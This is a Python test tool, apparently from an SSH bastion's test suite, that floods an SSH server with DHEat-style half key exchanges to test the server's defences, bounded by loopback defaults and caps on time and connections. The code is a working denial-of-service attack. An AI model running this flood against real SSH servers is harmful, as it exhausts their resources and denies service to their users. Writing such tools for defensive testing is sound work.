"""A key-exchange flood (DHEat-style), bounded in count and time: an attacker's tool for
tests and benchmarks, run as its own process so that its work never shares the bastion's
event loop.

Each worker binds a source address (e.g. 127.0.0.2 .. 127.0.0.50: all of 127/8 is local),
connects, sends an SSH version line and a KEXINIT asking for the most expensive key
exchange the server offers, then a random client value (no crypto on this side), reads the
server's answer (the server did its half of the work), hangs up and starts again. Nothing
is ever finished, nothing leaves loopback.

    python -m tests.kexflood --port P --sources 127.0.0.2-127.0.0.50 --per-source 10 \
        --max-seconds 10 --max-connections 5000

With ``--min-seconds S`` it floods until its stdin is closed, for at least S seconds (and
never more than ``--max-seconds``): a test stops it once it has seen what it waits for.

Prints one JSON line of counts at the end: ``replies`` (server key-exchange replies, i.e.
expensive work done), ``refused`` (closed before the banner), ``other``.
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import os
import struct
import sys
from collections import Counter

# Most expensive first: what an attacker would pick from the server's offer.
EXPENSIVE_FIRST = (
    "diffie-hellman-group18-sha512",
    "diffie-hellman-group17-sha512",
    "diffie-hellman-group16-sha512",
    "diffie-hellman-group15-sha512",
    "diffie-hellman-group14-sha256",
    "diffie-hellman-group-exchange-sha256",
    "ecdh-sha2-nistp521",
    "ecdh-sha2-nistp384",
    "ecdh-sha2-nistp256",
    "curve448-sha512",
    "curve25519-sha256",
    "curve25519-sha256@libssh.org",
)
# Client value size in bytes for a random ``e`` (DH) or ``Q_C`` (ECDH).
VALUE_BYTES = {
    "diffie-hellman-group18-sha512": 1024,
    "diffie-hellman-group17-sha512": 768,
    "diffie-hellman-group16-sha512": 512,
    "diffie-hellman-group15-sha512": 384,
    "diffie-hellman-group14-sha256": 256,
    "curve448-sha512": 56,
    "curve25519-sha256": 32,
    "curve25519-sha256@libssh.org": 32,
}
MSG_KEXINIT = 20
MSG_KEX_INIT = 30  # KEXDH_INIT / KEX_ECDH_INIT


def _string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def _mpint(data: bytes) -> bytes:
    data = data.lstrip(b"\0")
    if data and data[0] & 0x80:
        data = b"\0" + data
    return _string(data)


def packet(payload: bytes) -> bytes:
    """An unencrypted SSH binary packet."""
    pad = 8 - (len(payload) + 5) % 8
    pad += 8 if pad < 4 else 0
    return struct.pack(">IB", len(payload) + pad + 1, pad) + payload + os.urandom(pad)


def kexinit(kex: str, hostkey: str, cipher: str, mac: str) -> bytes:
    lists = [kex, hostkey, cipher, cipher, mac, mac, "none", "none", "", ""]
    body = bytes([MSG_KEXINIT]) + os.urandom(16)
    body += b"".join(_string(x.encode()) for x in lists)
    return packet(body + b"\0" + b"\0\0\0\0")


def client_value(kex: str) -> bytes:
    size = VALUE_BYTES.get(kex, 32)
    raw = os.urandom(size)
    if kex.startswith("diffie-hellman"):
        # 1 < e < p - 1: every MODP prime starts with 64 one bits.
        return bytes([MSG_KEX_INIT]) + _mpint(b"\x7f" + raw[1:])
    return bytes([MSG_KEX_INIT]) + _string(raw)


async def read_packet(reader: asyncio.StreamReader) -> bytes:
    head = await reader.readexactly(5)
    length, pad = struct.unpack(">IB", head)
    if not 5 <= length <= 256 * 1024:
        raise ValueError("bad packet length")
    body = await reader.readexactly(length - 1)
    return body[: len(body) - pad]


def name_lists(payload: bytes) -> list[list[str]]:
    pos, out = 17, []
    for _ in range(10):
        (n,) = struct.unpack(">I", payload[pos : pos + 4])
        out.append(payload[pos + 4 : pos + 4 + n].decode().split(","))
        pos += 4 + n
    return out


def pick(offered: list[str], ours: tuple[str, ...]) -> str:
    for name in ours:
        if name in offered:
            return name
    return offered[0]


async def half_kex(host: str, port: int, source: str, timeout: float) -> str:
    """One connection: version, KEXINIT, random client value; read the server's reply."""
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(host, port, local_addr=(source, 0)), timeout
    )
    try:
        writer.write(b"SSH-2.0-OpenSSH_9.2p1 flood\r\n")
        line = await asyncio.wait_for(reader.readline(), timeout)
        if not line:
            return "refused"
        while not line.startswith(b"SSH-"):
            line = await asyncio.wait_for(reader.readline(), timeout)
        offer = await asyncio.wait_for(read_packet(reader), timeout)
        if offer[0] != MSG_KEXINIT:
            return "other"
        kex_offer, hostkeys, ciphers, _, macs, *_ = name_lists(offer)
        kex = pick(kex_offer, EXPENSIVE_FIRST)
        writer.write(kexinit(kex, hostkeys[0], ciphers[0], macs[0]) + packet(client_value(kex)))
        reply = await asyncio.wait_for(read_packet(reader), timeout)
        return "replies" if reply[0] == MSG_KEX_INIT + 1 else "other"
    finally:
        writer.close()


def sources_of(spec: str) -> list[str]:
    first, _, last = spec.partition("-")
    lo = ipaddress.ip_address(first)
    hi = ipaddress.ip_address(last or first)
    return [str(ipaddress.ip_address(int(lo) + i)) for i in range(int(hi) - int(lo) + 1)]


async def flood(
    host: str,
    port: int,
    sources: list[str],
    per_source: int,
    seconds: float,
    limit: int,
    interval: float,
    min_seconds: float | None = None,
) -> Counter[str]:
    """Until ``seconds`` or ``limit`` connections; with ``min_seconds``, also until stdin is
    closed (the caller says stop) once ``min_seconds`` have passed."""
    counts: Counter[str] = Counter()
    loop = asyncio.get_running_loop()
    deadline = loop.time() + seconds
    budget = [limit]
    released = asyncio.Event()
    watcher = None
    if min_seconds is not None:
        watcher = asyncio.create_task(_until_stdin_closes(released))
        min_deadline = loop.time() + min_seconds

    def going() -> bool:
        if budget[0] <= 0 or loop.time() >= deadline:
            return False
        return not (released.is_set() and loop.time() >= min_deadline)

    async def worker(source: str) -> None:
        while going():
            budget[0] -= 1
            started = loop.time()
            try:
                counts[await half_kex(host, port, source, max(0.1, deadline - loop.time()))] += 1
            except (OSError, EOFError, ValueError, asyncio.IncompleteReadError):
                counts["refused"] += 1
            except TimeoutError:
                counts["timeout"] += 1
            # Bounded: each worker starts at most one connection per ``interval``.
            await asyncio.sleep(max(0.0, started + interval - loop.time()))

    await asyncio.gather(*(worker(s) for s in sources for _ in range(per_source)))
    if watcher is not None:
        watcher.cancel()
    return counts


async def _until_stdin_closes(released: asyncio.Event) -> None:
    reader = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    while await reader.read(4096):
        pass
    released.set()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sources", default="127.0.0.2-127.0.0.50")
    parser.add_argument("--per-source", type=int, default=10)
    parser.add_argument("--max-seconds", type=float, default=10.0)
    parser.add_argument("--max-connections", type=int, default=5000)
    parser.add_argument("--interval", type=float, default=0.5, help="per worker, seconds")
    parser.add_argument(
        "--min-seconds",
        type=float,
        default=None,
        help="run until stdin is closed, at least this long (and at most --max-seconds)",
    )
    args = parser.parse_args(argv)
    sources = sources_of(args.sources)
    if len(sources) * args.per_source > 5000 or args.max_seconds > 600:
        parser.error("bounded on purpose: at most 5000 workers and 600 s")
    print("started", flush=True)
    counts = asyncio.run(
        flood(
            args.host,
            args.port,
            sources,
            args.per_source,
            args.max_seconds,
            args.max_connections,
            args.interval,
            args.min_seconds,
        )
    )
    print(json.dumps(dict(counts), sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
